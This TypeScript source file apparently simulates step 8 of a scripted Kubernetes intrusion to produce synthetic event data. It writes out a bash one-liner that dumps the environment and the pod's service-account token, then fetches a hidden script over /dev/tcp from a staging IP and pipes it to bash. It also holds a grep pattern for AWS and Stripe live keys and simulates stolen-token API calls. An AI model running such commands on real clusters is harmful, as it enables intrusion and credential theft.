import { callApi, type World } from '../api.ts'
import { execIntoPod } from '../control-plane.ts'
import type { Process } from '../processes.ts'
import { connect, end, read, run, start, startExeced, tokenPath } from '../runtime.ts'
import { MS_US, SECOND_US } from '../timeline.ts'
import { STAGING_IP } from './indicators.ts'
import { EMBEDDED_KUBECTL, embeddedKubectl, MOUNT, tokenClient } from './stolen-token.ts'
import { at, attackStep, type Cast, consequenceOf } from './story.ts'

/** Step 8, second half: from the notebook into a pod of the shop, with what was found. */

/** Into a pod of the shop: environment, its token, and another script over /dev/tcp, as there is no curl. */
export function enterCart(world: World, peirates: Process, { notebook, cart }: Cast): void {
  const script = `id; env; cat ${MOUNT}/token; exec 3<>/dev/tcp/${STAGING_IP}/80; echo -e "GET /.bin/.a.i.sh HTTP/1.0\\n" >&3; cat <&3 | bash`
  const command = ['/bin/bash', '-c', script]
  embeddedKubectl(world, peirates, 8, '13:10', ['-n', 'shop', 'exec', cart.name, '--', ...command], 5_200 * MS_US)
  const step = attackStep(world, 8, 'enter-cart')
  const session = { command, interactive: false, lasts_us: 5 * SECOND_US }
  const client = tokenClient(notebook, notebook, EMBEDDED_KUBECTL)
  execIntoPod(step, at('13:10.080'), client, cart, session, consequenceOf(world, 8, 'enter-cart'))
  const bash = startExeced(step, cart, at('13:10.190'), { binary: '/bin/bash', args: ['-c', script], cwd: '/app' })
  run(step, bash, at('13:10.210'), { binary: '/usr/bin/id' })
  run(step, bash, at('13:10.230'), { binary: '/usr/bin/env' })
  const cat = run(step, bash, at('13:10.250'), { binary: '/usr/bin/cat', args: [`${MOUNT}/token`] })
  read(step, cat, at('13:10.251'), tokenPath(cart))
  connect(step, bash, at('13:10.280'), STAGING_IP, 80)
  run(step, bash, at('13:10.300'), { binary: '/usr/bin/cat', lasts_us: 400 * MS_US })
  const staged = start(step, bash, at('13:10.302'), { binary: '/usr/bin/bash', cwd: '/app' })
  run(step, staged, at('13:11'), { binary: '/usr/bin/cat', args: ['/app/config/production.json'] })
  run(step, staged, at('13:12'), { binary: '/usr/bin/grep', args: ['-rhoE', '(AKIA|sk_live_)[0-9A-Za-z]+', '/app'] })
  connect(step, staged, at('13:13'), STAGING_IP, 80)
  end(step, staged, at('13:14.900'))
  end(step, bash, at('13:14.950'))
}

/** The stolen token of the cart, used from the notebook: the API server names the cart's pod, the address is the notebook's. */
export function tryCartToken(world: World, peirates: Process, { notebook, cart }: Cast): void {
  const client = tokenClient(cart, notebook, EMBEDDED_KUBECTL)
  for (const [when, resource] of [
    ['14:02', 'secrets'],
    ['14:08', 'pods']
  ] as const) {
    embeddedKubectl(world, peirates, 8, when, ['-n', 'shop', 'get', resource, '-o', 'json'], 200 * MS_US, true)
    callApi(attackStep(world, 8, `cart-token/${when}`), at(when) + 90 * MS_US, client, {
      verb: 'list',
      resource,
      namespace: 'shop',
      denied: true
    })
  }
}
